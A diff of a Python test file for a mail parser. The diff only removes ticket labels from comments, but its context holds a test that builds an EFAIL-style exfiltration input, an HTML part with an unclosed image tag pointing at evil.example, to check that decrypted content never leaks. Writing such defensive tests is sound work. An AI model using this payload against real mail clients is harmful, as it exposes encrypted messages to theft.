@@ -145,7 +145,7 @@ SMIME = f"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n\n{SE
 
 @pytest.mark.parametrize("sealed", [SEALED, POSING, DEEPER, SMIME], ids=["pgp", "html", "nested", "smime"])
 def test_an_encrypted_part_between_two_of_html_is_never_in_the_text(sealed: str) -> None:
-    """T75: the part before leaves a tag open to carry what follows away."""
+    """The part before leaves a tag open to carry what follows away."""
     before = 'Content-Type: text/html\n\n<img src="http://evil.example/'
     mail = read(mail_of(before, sealed, 'Content-Type: text/html\n\n">after'))
     assert SECRET not in mail.text
@@ -158,7 +158,7 @@ def test_a_mail_that_is_only_encrypted_has_no_text() -> None:
     assert (mail.text, [each.name for each in mail.attachments]) == ("", ["pgp-version.asc", "encrypted.asc"])
 
 
-# --- T71: nothing is unpacked ---------------------------------------------------------------------
+# --- nothing is unpacked --------------------------------------------------------------------------
 
 
 def zip_in_zip() -> bytes:
